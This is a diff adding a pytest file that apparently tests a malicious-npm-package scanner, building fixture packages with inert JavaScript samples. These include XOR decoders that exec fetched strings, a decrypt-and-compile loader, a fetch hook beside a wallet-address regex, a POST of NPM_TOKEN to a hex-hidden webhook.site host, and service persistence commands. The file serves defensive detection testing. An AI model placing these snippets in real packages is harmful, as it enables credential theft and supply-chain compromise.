@@ -1,0 +1,160 @@
+"""False positives found on the unseen sample of 2026-12-04 (scripts/heuristic-fp/RESULT.md).
+
+Each benign shape is a fixture in ``fixtures/benign`` (silent: ``test_fixtures.test_benign``); the
+tests here pin the technique each fix must keep finding. The code below is written for these
+tests, never executed: the engine only reads it.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from gouvernante.heuristic import scan_package_dir
+
+BENIGN = Path(__file__).parent / "fixtures" / "benign"
+
+
+def _package(root: Path, code: str, *, install: bool) -> Path:
+    root.mkdir()
+    manifest: dict[str, object] = {"name": "fixture-xor", "version": "1.0.0"}
+    if install:
+        manifest["scripts"] = {"postinstall": "node setup.js"}
+    (root / "package.json").write_text(json.dumps(manifest))
+    (root / "setup.js").write_text(code)
+    return root
+
+
+# XOR decoders that rebuild text in other ways than the fromCharCode map of plain-crypto-js.
+DECODERS = {
+    "fromCharCode-loop": (
+        "let s = '';\n"
+        "for (let i = 0; i < b.length; i++) s += String.fromCharCode(b[i] ^ k.charCodeAt(i % 5));\n"
+    ),
+    "buffer": (
+        "const out = [];\n"
+        "for (let i = 0; i < enc.length; i++) out.push(enc.charCodeAt(i) ^ 23);\n"
+        "const s = Buffer.from(out).toString('utf8');\n"
+    ),
+    "text-decoder": (
+        "const bytes = new Uint8Array(enc.length);\n"
+        "for (let i = 0; i < enc.length; i++) bytes[i] = enc.charCodeAt(i) ^ key;\n"
+        "const s = new TextDecoder().decode(bytes);\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("shape", sorted(DECODERS))
+@pytest.mark.parametrize("install", [False, True])
+def test_xor_decoders_next_to_process_spawning_are_still_found(
+    tmp_path: Path, shape: str, install: bool
+) -> None:
+    code = (
+        "const cp = require('child_process');\n"
+        + DECODERS[shape]
+        + "fetch('https://example.invalid/' + s).then(() => cp.exec(s));\n"
+    )
+    hits = {
+        h.pattern_id: h.confidence.value
+        for h in scan_package_dir(str(_package(tmp_path / "p", code, install=install)))
+    }
+    assert hits.get("GH-DECODE-CHARCODE-EXEC") == ("high" if install else "medium"), hits
+
+
+def test_string_hashes_in_install_time_code_are_not_a_decoder(tmp_path: Path) -> None:
+    """The hashes of the benign fixture, run by a postinstall: still not a charCode decoder."""
+    code = (BENIGN / "string-hash-cli" / "cli.js").read_text()
+    hits = scan_package_dir(str(_package(tmp_path / "p", code, install=True)))
+    assert "GH-DECODE-CHARCODE-EXEC" not in {h.pattern_id for h in hits}
+
+
+def _scan_code(tmp_path: Path, code: str) -> dict[str, str]:
+    pkg = _package(tmp_path / "p", code, install=False)
+    return {h.pattern_id: h.confidence.value for h in scan_package_dir(str(pkg))}
+
+
+def test_unkeyed_decipher_beside_the_module_compiler_stays_a_review_item(tmp_path: Path) -> None:
+    code = (
+        "const c = require('crypto');\n"
+        "const d = c.createDecipheriv('aes-256-cbc', k, iv);\n"
+        "const src = d.update(blob, 'hex', 'utf8') + d.final('utf8');\n"
+        "const m = new module.constructor(); m._compile(src, 'x.js');\n"
+    )
+    assert _scan_code(tmp_path, code).get("GH-DECRYPT-EXEC") == "medium"
+
+
+def test_a_fetch_hook_is_not_taken_for_a_polyfill(tmp_path: Path) -> None:
+    """Replacing a fetch that exists (saved first, guard not negated) is still a hook."""
+    code = (
+        "if (window.fetch) {\n"
+        "  const orig = window.fetch;\n"
+        "  window.fetch = async (u, o) => orig(u, o);\n"
+        "}\n"
+        "const ETH = /0x[a-fA-F0-9]{40}/g;\n"
+    )
+    assert _scan_code(tmp_path, code).get("GH-WALLET-HIJACK") == "medium"
+
+
+def test_a_collection_host_after_a_wildcard_list_is_still_found(tmp_path: Path) -> None:
+    allowed = (BENIGN / "allowed-origins-wildcard" / "index.js").read_text()
+    code = allowed + "\nfetch('https://abc123.ngrok-free.app/c', { method: 'POST', body: t });\n"
+    assert _scan_code(tmp_path, code).get("GH-EXFIL-WEBHOOK") == "high"
+
+
+def test_a_decoded_collection_host_is_found(tmp_path: Path) -> None:
+    hidden = b"webhook.site/abc".hex()
+    code = (
+        "const wild = ['https://*.ngrok-free.app'];\n"
+        f"const u = Buffer.from('{hidden}', 'hex').toString();\n"
+        "fetch('https://' + u, { method: 'POST', body: process.env.NPM_TOKEN });\n"
+    )
+    assert _scan_code(tmp_path, code).get("GH-EXFIL-WEBHOOK") == "high"
+
+
+PROMPT = BENIGN / "console-prompt-wsh" / "lib" / "prompt.js"
+
+
+def test_a_script_host_running_a_temp_script_stays_a_review_item(tmp_path: Path) -> None:
+    code = PROMPT.read_text().replace('__dirname + "\\\\read.wsh.js"', 'os.tmpdir() + "\\\\u.vbs"')
+    assert "tmpdir" in code
+    assert _scan_code(tmp_path, code).get("GH-INSTALL-LOLBIN") == "medium"
+
+
+def test_a_script_host_in_install_time_code_is_high(tmp_path: Path) -> None:
+    pkg = _package(tmp_path / "p", PROMPT.read_text(), install=True)
+    hits = {h.pattern_id: h.confidence.value for h in scan_package_dir(str(pkg))}
+    assert hits.get("GH-INSTALL-LOLBIN") == "high"
+
+
+def test_a_dll_loader_given_a_package_file_stays_a_review_item(tmp_path: Path) -> None:
+    code = (
+        "const cp = require('child_process');\n"
+        "cp.spawn('rundll32.exe', [__dirname + '\\\\lib.dll,main']);\n"
+    )
+    assert _scan_code(tmp_path, code).get("GH-INSTALL-LOLBIN") == "medium"
+
+
+SERVICE_CLI = Path(__file__).parent / "fixtures" / "review" / "service-manager-cli"
+
+
+@pytest.mark.parametrize(
+    "added",
+    [
+        'fs.writeFileSync(MACOS.PLIST, "<plist/>");\n',
+        'spawnSync("launchctl", ["load", MACOS.PLIST]);\n',
+        'require("child_process").execSync("systemctl enable tunneld.service");\n',
+        'spawnSync("crontab", ["-l"]);\n',
+    ],
+)
+def test_install_time_code_that_registers_a_service_is_high(tmp_path: Path, added: str) -> None:
+    """Writing the unit, or running the command that registers it, keeps the high form."""
+    import shutil
+
+    pkg = tmp_path / "p"
+    shutil.copytree(SERVICE_CLI, pkg)
+    with (pkg / "lib" / "service.js").open("a") as fh:
+        fh.write(added)
+    hits = {h.pattern_id: h.confidence.value for h in scan_package_dir(str(pkg))}
+    assert hits.get("GH-PERSIST-SERVICE") == "high", hits
